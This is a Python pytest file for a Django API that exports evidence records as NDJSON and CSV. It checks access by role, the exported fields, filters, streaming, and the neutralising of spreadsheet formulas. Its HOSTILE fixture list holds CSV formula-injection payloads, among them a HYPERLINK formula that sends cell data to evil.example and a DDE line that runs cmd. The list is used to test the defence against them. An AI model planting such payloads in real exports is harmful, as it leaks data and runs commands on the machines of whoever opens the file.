"""``GET /api/v1/export/evidence.ndjson`` and ``.csv``: who may, which records, which fields,
filters, streaming, and CSV that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from evidence_app.exports.records import CSV_COLUMNS, csv_safe
from evidence_app.models import Evidence, SignerClass
from recipes_app.models import Recipe
from tests.evidence_factories import EvidenceFactory, SignerFactory

Api = Callable[[str | None], Client]
NDJSON = "/api/v1/export/evidence.ndjson"
CSV = "/api/v1/export/evidence.csv"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth equals: some spreadsheets normalise it
    'quote " and, comma\nnewline',
]


@pytest.fixture
def auditor(make_token: Callable[..., str]) -> str:
    return make_token("audrey", "auditor")


@pytest.fixture
def rows(example_recipe: Recipe) -> list[Evidence]:
    hostile_signer = SignerFactory(label=HOSTILE[0], identity=HOSTILE[1], issuer=HOSTILE[3])
    reported = SignerFactory(signer_class=SignerClass.REPORTED, counted=False)
    now = timezone.now()
    made = [
        EvidenceFactory(recipe=example_recipe, attested_at=now - timedelta(days=1)),
        EvidenceFactory(
            recipe=example_recipe,
            signer=hostile_signer,
            attested_at=now - timedelta(days=40),
            aicr_version=HOSTILE[2],
            withdrawn_at=now,
            withdrawal_reason=HOSTILE[4] + " " + HOSTILE[7],
        ),
        EvidenceFactory(
            recipe=example_recipe, signer=reported, is_demo=True, k8s_version=HOSTILE[5]
        ),
        EvidenceFactory(
            recipe=example_recipe, is_simulated=True, validator_catalog_version=HOSTILE[6]
        ),
    ]
    return made


def _ndjson(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.content
    assert response.streaming
    body = b"".join(response.streaming_content)
    assert body.endswith(b"\n")
    return [json.loads(line) for line in body.splitlines()]


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("url", [NDJSON, CSV])
@pytest.mark.parametrize(
    ("role", "status"),
    [(None, 401), ("contributor", 403), ("auditor", 200), ("maintainer", 200)],
)
def test_it_exports_only_to_auditors_and_maintainers(
    api: Api,
    make_token: Callable[..., str],
    evidence_db: None,
    url: str,
    role: str | None,
    status: int,
) -> None:
    token = make_token(f"user-{role}", role) if role else None
    response = api(token).get(url)
    assert response.status_code == status
    if status != 200:
        assert response["Content-Type"] == "application/json"
        assert "detail" in response.json()


def test_it_exports_every_record_with_the_fields_auditors_need(
    api: Api, auditor: str, rows: list[Evidence]
) -> None:
    records = _ndjson(api(auditor).get(NDJSON))

    assert [r["id"] for r in records] == sorted(e.pk for e in rows)
    by_id = {r["id"]: r for r in records}
    first = by_id[rows[0].pk]
    assert first["sha256"] == rows[0].sha256
    assert first["recipe_digest"] == rows[0].subject_digest
    assert first["counted"] is True
    assert first["signer_class"] == "community"
    assert first["url"] == f"http://testserver/api/v1/evidence/{rows[0].pk}/"
    assert first["bundle_url"] == f"http://testserver/api/v1/evidence/{rows[0].pk}/bundle"
    assert set(first["phases"])
    assert all(
        set(counts) == {"passed", "failed", "skipped"} for counts in first["phases"].values()
    )
    withdrawn = by_id[rows[1].pk]
    assert withdrawn["withdrawn"] is True
    assert withdrawn["counted"] is False
    assert withdrawn["withdrawal_reason"].startswith("\t=1+1")  # NDJSON keeps the exact text
    assert {"withdrawn", "older-than-30-days"} <= set(withdrawn["stale_reasons"])
    assert by_id[rows[2].pk]["counted"] is False
    assert by_id[rows[2].pk]["is_demo"] is True
    assert by_id[rows[3].pk]["is_simulated"] is True
    assert by_id[rows[3].pk]["counted"] is False
    assert set(CSV_COLUMNS) <= set(first)


def test_it_exports_csv_that_a_spreadsheet_shows_as_text(
    api: Api, auditor: str, rows: list[Evidence]
) -> None:
    table = _csv(api(auditor).get(CSV))

    assert len(table) == len(rows)
    assert list(table[0]) == list(CSV_COLUMNS)
    cells = [value for row in table for value in row.values()]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
    hostile = next(row for row in table if row["id"] == str(rows[1].pk))
    assert hostile["signer_label"] == "'" + HOSTILE[0]
    assert hostile["signer_identity"] == "'" + HOSTILE[1]
    assert hostile["aicr_version"] == "'" + HOSTILE[2]
    assert hostile["signer_issuer"] == "'" + HOSTILE[3]
    assert hostile["withdrawal_reason"] == "'" + HOSTILE[4] + " " + HOSTILE[7]
    assert hostile["withdrawn"] == "true"
    assert next(r for r in table if r["id"] == str(rows[2].pk))["k8s_version"] == "'" + HOSTILE[5]
    assert (
        next(r for r in table if r["id"] == str(rows[3].pk))["validator_catalog_version"]
        == "'" + HOSTILE[6]
    )


@pytest.mark.parametrize(
    "value", ["plain", "a=b", "1-2", "", "x@y", "'already"], ids=lambda v: repr(v)
)
def test_it_leaves_harmless_cells_alone(value: str) -> None:
    assert csv_safe(value) == value


def test_it_applies_the_evidence_list_filters(api: Api, auditor: str, rows: list[Evidence]) -> None:
    client = api(auditor)
    counted = _ndjson(client.get(NDJSON, {"counted": "true"}))
    assert [r["id"] for r in counted] == [rows[0].pk]
    stale = _ndjson(client.get(NDJSON, {"stale": "true"}))
    assert rows[1].pk in {r["id"] for r in stale}
    reported = _ndjson(client.get(NDJSON, {"class": "reported"}))
    assert [r["id"] for r in reported] == [rows[2].pk]
    cutoff = (timezone.now() - timedelta(days=10)).isoformat()
    recent = _ndjson(client.get(NDJSON, {"attested_after": cutoff}))
    assert rows[1].pk not in {r["id"] for r in recent}
    assert len(recent) == 3
    old = _ndjson(client.get(NDJSON, {"attested_before": cutoff}))
    assert [r["id"] for r in old] == [rows[1].pk]
    assert _csv(client.get(CSV, {"signer": rows[0].signer.slug}))[0]["id"] == str(rows[0].pk)


@pytest.mark.parametrize(
    "params",
    [
        {"class": "emperor"},
        {"verdict": "maybe"},
        {"stale": "perhaps"},
        {"attested_after": "yesterday"},
        {"attested_after": "0001-01-01T00:00:00+05:00"},  # before year 1 in UTC
        {"recipe": "x" * 500},
    ],
)
def test_it_refuses_bad_filters_with_a_400_naming_them(
    api: Api, auditor: str, evidence_db: None, params: dict[str, str]
) -> None:
    response = api(auditor).get(NDJSON, params)
    assert response.status_code == 400
    assert next(iter(params)) in response.json()


def test_it_streams_in_chunks_with_a_fixed_number_of_queries_per_chunk(
    api: Api, auditor: str, example_recipe: Recipe, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evidence_app.exports import records as records_module

    signer = SignerFactory()
    EvidenceFactory.create_batch(30, recipe=example_recipe, signer=signer)
    monkeypatch.setattr(records_module, "CHUNK_SIZE", 10)

    response = api(auditor).get(NDJSON)
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(response.streaming_content)
    assert len(body.splitlines()) == 30
    # 3 chunks: rows (one query each on SQLite; a server-side cursor on PostgreSQL) and a
    # constant number of staleness queries per chunk, never one per row.
    assert len(queries) <= 3 * 6 + 2, [q["sql"][:80] for q in queries]


def test_it_exports_an_empty_set_as_an_empty_body(
    api: Api, auditor: str, evidence_db: None
) -> None:
    response = api(auditor).get(NDJSON)
    assert b"".join(response.streaming_content) == b""
    assert len(_csv(api(auditor).get(CSV))) == 0


def test_it_agrees_with_the_site_on_counted_and_staleness_for_every_row(
    api: Api, auditor: str, rows: list[Evidence], example_recipe: Recipe
) -> None:
    from evidence_app import consensus
    from evidence_app.services.staleness import staleness_bulk

    # More combinations: an older AICR version, a delisted signer, an old withdrawn row.
    delisted = SignerFactory(counted=False, signer_class=SignerClass.REPORTED)
    delisted.class_changes.create(
        from_class="community", to_class="reported", from_counted=True, to_counted=False, reason="t"
    )
    EvidenceFactory(recipe=example_recipe, signer=delisted, aicr_version="v0.1.0")
    EvidenceFactory(
        recipe=example_recipe,
        attested_at=timezone.now() - timedelta(days=90),
        withdrawn_at=timezone.now(),
        withdrawal_reason="old",
    )
    records = {r["id"]: r for r in _ndjson(api(auditor).get(NDJSON))}
    evidence = list(Evidence.objects.select_related("signer"))
    stale = staleness_bulk(evidence)
    assert len(records) == len(evidence) == len(rows) + 2
    for e in evidence:
        assert records[e.pk]["counted"] is consensus.is_counted(e), e.pk
        assert records[e.pk]["stale_reasons"] == [r.code for r in stale[e.pk]], e.pk
    assert any("signer-not-allowlisted" in r["stale_reasons"] for r in records.values())
    assert any("aicr-outdated" in r["stale_reasons"] for r in records.values())


def test_it_makes_signer_chosen_phase_names_safe_in_csv(
    api: Api, auditor: str, example_recipe: Recipe
) -> None:
    predicate = {"phases": {"=HYPERLINK(1)": {"passed": 1, "failed": 0, "skipped": 0}}}
    EvidenceFactory(recipe=example_recipe, predicate=predicate)
    [row] = _csv(api(auditor).get(CSV))
    assert row["phases"] == "'=HYPERLINK(1)=1/0/0"


def test_it_reads_any_utc_offset_python_reads(api: Api, auditor: str, rows: list[Evidence]) -> None:
    # PostgreSQL takes offsets up to ±15:59; the filter moves the time to UTC first (was a 500).
    response = api(auditor).get(NDJSON, {"attested_before": "2999-01-01T00:00:00+21:36"})
    assert len(_ndjson(response)) == len(rows)
